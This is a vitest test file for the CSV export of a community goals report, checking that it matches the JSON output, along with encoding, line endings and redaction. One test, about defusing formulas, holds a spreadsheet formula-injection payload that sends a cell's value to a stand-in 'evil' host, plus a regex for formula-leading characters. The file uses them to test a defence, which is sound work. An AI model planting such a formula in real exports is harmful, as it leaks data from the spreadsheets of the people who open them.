import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { STRANDS } from '../../src/domain/strand.ts';
import { renderCsv } from '../../src/report/csv.ts';
import { renderJson } from '../../src/report/json.ts';
import type { ReportModel } from '../../src/report/model.ts';
import { narrowedText } from '../../src/report/narrowed-text.ts';
import type { ReportJson } from '../../src/report/report-schema.ts';
import { BALANCED } from '../insight/balance/balanced.ts';
import {
  checkIn,
  community,
  goal,
  milestone,
  reach,
  timeline,
  value,
} from '../insight/builders.ts';
import { grade, review } from '../insight/reviews.ts';
import { ANALYST_CIRCLE, modelOf } from './analyst-circle.ts';
import { CHART_GUILD } from './chart-guild.ts';
import { anyCommunity } from './hostile.ts';

type Row = Readonly<Record<string, string>>;

const FOR_PEOPLE = { raw: false };
const RAW = { raw: true };

function read(csv: string): Row[] {
  return parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
}

function rowsOf(model: ReportModel): Row[] {
  return read(renderCsv(model, FOR_PEOPLE));
}

/** A value of the JSON as a cell writes it. */
function cell(said: unknown): string {
  if (said === null || said === undefined) return '';
  if (typeof said === 'boolean') return said ? 'yes' : 'no';
  return String(said);
}

/** The rows that the JSON of the same report makes. */
function rowsByJson(model: ReportModel): Row[] {
  const report: ReportJson = JSON.parse(renderJson(model));
  return report.goals.flatMap((goal) =>
    goal.key_results.map((one) => {
      const intervals = one.timeline.intervals;
      const row = {
        quarter: report.quarter,
        as_of: report.as_of,
        goal_id: goal.id,
        goal: goal.goal,
        goal_status: goal.status,
        goal_progress: goal.progress,
        goal_expected: goal.expected,
        key_result_id: one.id,
        key_result: one.key_result,
        kind: one.kind,
        owner: one.owner,
        personas: goal.personas.join(';'),
        unit: one.unit,
        baseline: one.baseline,
        target: one.target,
        at_least: one.at_least,
        at_most: one.at_most,
        commit: one.commit,
        stretch: one.stretch,
        steps: one.steps?.length,
        weight: one.weight,
        every: one.every,
        timeline: one.timeline.written,
        first_day: intervals[0]?.from,
        last_day: intervals.at(-1)?.to,
        value: one.value,
        attainment: one.attainment,
        progress: one.progress,
        expected: one.expected,
        pace: one.pace,
        status: one.status,
        late: one.late,
        stale: one.stale,
        blocked: one.blocked,
        confidence: one.confidence,
        last_check_in: one.last_check_in,
        rate_needed: one.rate_needed,
        rate_so_far: one.forecast?.rate_so_far,
        forecast_at_end: one.forecast?.at_end,
        forecast_on: one.forecast?.target_on,
        score: one.score,
        grade: one.grade?.score,
        withheld: one.withheld,
        file: goal.file,
        line: one.line,
        public: report.public,
        narrowed: model.narrowed && narrowedText(model.narrowed),
        left_out: report.left_out.length,
        at: report.at?.commit,
        no_data: one.no_data,
        ...communityByJson(report.community_picture),
        ...balanceByJson(report.balance),
      };
      return Object.fromEntries(Object.entries(row).map(([key, said]) => [key, cell(said)]));
    }),
  );
}

/** What every row says of the community. */
function communityByJson(picture: ReportJson['community_picture']) {
  const groups = picture?.members.by_status ?? [];
  const people = (status: string) => {
    const group = groups.find(({ statuses }) => statuses.some((one) => one === status));
    if (groups.length === 0 || (group && group.statuses.length > 1)) return null;
    return group?.people ?? 0;
  };
  return {
    community_members: picture?.members.total,
    community_active: people('active'),
    community_quiet: people('quiet'),
    community_invited: people('invited'),
    community_left: people('left'),
    community_new: picture?.members.joined,
    community_introductions: picture?.introductions.total,
    community_contributions: picture?.contributions.total,
    community_asks_open: picture?.asks.open,
    community_oldest_ask_days: picture?.asks.oldest_days,
    community_experiences: picture?.experiences.held,
    community_people_came: picture?.experiences.people,
    community_half_carried_by: picture?.half_carried_by?.people,
    community_contributors: picture?.half_carried_by?.of,
    community_stories: picture?.stories.length,
  };
}

/** What every row says of the three strands side by side. */
function balanceByJson(balance: ReportJson['balance']) {
  const advice = balance && `${balance.advice.sentence}: ${balance.advice.reason}.`;
  const cells = STRANDS.flatMap((strand) => {
    const one = balance?.strands.find((each) => each.strand === strand);
    return COUNTS.map((count) => [`balance_${strand}_${count}`, one?.[count]] as const);
  });
  return {
    balance_first_day: balance?.weeks[0]?.from,
    balance_last_day: balance?.weeks.at(-1)?.to,
    ...Object.fromEntries(cells),
    balance_advice: advice,
  };
}

const COUNTS = ['due', 'done', 'skipped', 'open', 'records'] as const;

const FORECAST = community({
  goals: [
    goal('survey', [
      reach({
        id: 'answers',
        target: 30,
        timeline: timeline('Weeks 4-10'),
        commit: 12,
        stretch: 40,
      }),
    ]),
  ],
  records: [
    value('11-06', 8, { keyResult: 'survey/answers' }),
    value('11-13', 11, { keyResult: 'survey/answers' }),
    value('11-20', 14, { keyResult: 'survey/answers' }),
  ],
});

describe('the report as CSV', () => {
  it('has a row for each key result', () => {
    const rows = rowsOf(modelOf());
    expect(rows.map((row) => `${row.goal_id}/${row.key_result_id}`)).toEqual([
      'get-to-know/invite',
      'get-to-know/introductions',
      'answer/time-to-answer',
      'answer/answered',
      'answer/write-down',
      'answer/hours',
      'inform-decisions/lead',
      'inform-decisions/answers',
      'inform-decisions/brief',
    ]);
    expect(rows[2]).toMatchObject({
      quarter: '2026-Q4',
      as_of: '2026-11-24',
      key_result: 'Median time to first answer',
      baseline: '36',
      target: '12',
      timeline: 'Whole quarter',
      first_day: '2026-10-01',
      last_day: '2026-12-31',
      value: '31',
      progress: '0.20833333333333334',
      status: 'off-track',
      stale: 'yes',
      last_check_in: '2026-11-05',
      forecast_at_end: '',
    });
  });

  it.each([
    ['a running quarter', modelOf()],
    ['one with a forecast', modelOf({ of: FORECAST })],
    ['its end', modelOf({ on: '12-31' })],
    ['a quarter to come', modelOf({ on: '09-01' })],
    ['a narrowed report', modelOf({ filters: { goals: ['answer'], statuses: ['off-track'] } })],
    ['a partial one', modelOf({ leftOut: ['log/2026-11/a.yaml'] })],
    ['one for everybody', modelOf({ audience: 'public' })],
    ['a community of people', modelOf({ of: CHART_GUILD })],
    ['a community of people, for everybody', modelOf({ of: CHART_GUILD, audience: 'public' })],
    [
      'a community with practices',
      modelOf({ of: { ...ANALYST_CIRCLE, practices: BALANCED.practices } }),
    ],
    [
      'a reviewed quarter',
      modelOf({
        on: '12-31',
        of: {
          ...ANALYST_CIRCLE,
          reviews: [review([grade({ keyResult: 'get-to-know/invite', score: 0.9 })])],
        },
      }),
    ],
  ])('says what the JSON says of %s, with every digit', (_, model) => {
    expect(rowsByJson(model).length).toBeGreaterThan(0);
    expect(rowsOf(model)).toEqual(rowsByJson(model));
    expect(read(renderCsv(model, RAW))).toEqual(rowsByJson(model));
  });

  it.each([
    ['an empty community', community()],
    ['a quarter without goals', { ...ANALYST_CIRCLE, goals: [] }],
    ['a goal without key results', community({ goals: [goal('later', [])] })],
  ])('has only the names of the columns for %s', (_, of) => {
    const csv = renderCsv(modelOf({ of }), FOR_PEOPLE);
    expect(csv).toMatch(
      /^\ufeffquarter,as_of,.*,at,no_data,community_members,.*,community_stories,balance_first_day,.*,balance_advice\r\n$/,
    );
    expect(read(csv)).toEqual([]);
  });

  it('begins with a byte order mark for a spreadsheet, and without one for a program', () => {
    expect(renderCsv(modelOf(), FOR_PEOPLE)).toMatch(/^\ufeffquarter,/);
    expect(renderCsv(modelOf(), RAW)).toMatch(/^quarter,/);
  });

  it('ends every row with CRLF', () => {
    const csv = renderCsv(modelOf(), RAW);
    expect(csv.split('\r\n')).toHaveLength(1 + 9 + 1);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('leaves numbers as they are, also those below zero and the very small', () => {
    const of = community({
      goals: [goal('goal', [reach({ id: 'kr', baseline: -3, target: 1e-7, unit: '-' })])],
      records: [value('10-06', -2.5)],
    });
    expect(rowsOf(modelOf({ of }))[0]).toMatchObject({
      baseline: '-3',
      target: '1e-7',
      value: '-2.5',
      unit: "'-",
    });
  });

  it('defuses formulas in every text, and for programs in none', () => {
    const evil = '=HYPERLINK("http://evil?"&A1,"Ana")';
    const of = community({
      goals: [
        goal('goal', [reach({ id: 'kr', keyResult: evil, owner: '@ana', unit: '+h' })], {
          goal: `\t${evil}`,
        }),
      ],
    });
    const texts = { goal: `'${evil}`, key_result: `'${evil}`, owner: "'@ana", unit: "'+h" };
    expect(rowsOf(modelOf({ of }))[0]).toMatchObject(texts);
    expect(read(renderCsv(modelOf({ of }), RAW))[0]).toMatchObject({
      goal: `\t${evil}`,
      key_result: evil,
      owner: '@ana',
      unit: '+h',
    });
  });

  it('names no owner, and tells of no small group, in a report for everybody', () => {
    const of = community({
      goals: [goal('goal', [reach({ id: 'kr', unit: 'members' })])],
      records: [value('10-06', 3, { by: 'ana', note: 'Kim was there' })],
    });
    const csv = renderCsv(modelOf({ of, on: '10-08', audience: 'public' }), RAW);
    expect(read(csv)[0]).toMatchObject({
      withheld: 'yes',
      owner: '',
      value: '',
      progress: '',
      goal_progress: '',
      status: 'on-track',
    });
    expect(csv).not.toMatch(/ana|Kim/);
  });

  it('holds a hundred goals, a title of 500 characters, and 400 check-ins of one key result', () => {
    const long = 'x'.repeat(500);
    const goals = Array.from({ length: 100 }, (_, index) =>
      goal(`goal-${index}`, [reach({ id: 'kr', keyResult: long }), milestone({ id: 'done' })]),
    );
    const records = Array.from({ length: 400 }, () =>
      checkIn('10-06', { keyResult: 'goal-7/kr', said: { kind: 'add', add: 0.1 } }),
    );
    const rows = rowsOf(modelOf({ of: community({ goals, records }) }));
    expect(rows).toHaveLength(200);
    expect(rows.find((row) => row.goal_id === 'goal-7')).toMatchObject({
      key_result: long,
      value: '40',
    });
  });

  it('is read back whole, and is safe for a spreadsheet, whatever the files say', () => {
    fc.assert(
      fc.property(anyCommunity, (of) => {
        const model = modelOf({ of });
        const csv = renderCsv(model, FOR_PEOPLE);
        expect(csv.slice(1).replaceAll('\r\n', '')).not.toMatch(
          /[\p{Cc}\p{Cs}\ufeff\u202a-\u202e]/u,
        );
        const rows = read(csv);
        expect(rows.map(({ progress, value }) => ({ progress, value }))).toEqual(
          rowsByJson(model).map(({ progress, value }) => ({ progress, value })),
        );
        for (const { goal, key_result, unit, timeline } of rows)
          for (const text of [goal, key_result, unit, timeline])
            expect(text).not.toMatch(/^[\s"]*[=+@＝＋－＠-]/u);
      }),
    );
  });

  it('says for programs exactly what the files say', () => {
    fc.assert(
      fc.property(anyCommunity, (of) => {
        const model = modelOf({ of });
        const titles = model.goals.flatMap(({ goal, keyResults }) =>
          keyResults.map(({ keyResult }) => [goal.goal, keyResult.keyResult, keyResult.unit ?? '']),
        );
        const rows = read(renderCsv(model, RAW));
        expect(rows.map((row) => [row.goal, row.key_result, row.unit])).toEqual(titles);
      }),
    );
  });
});
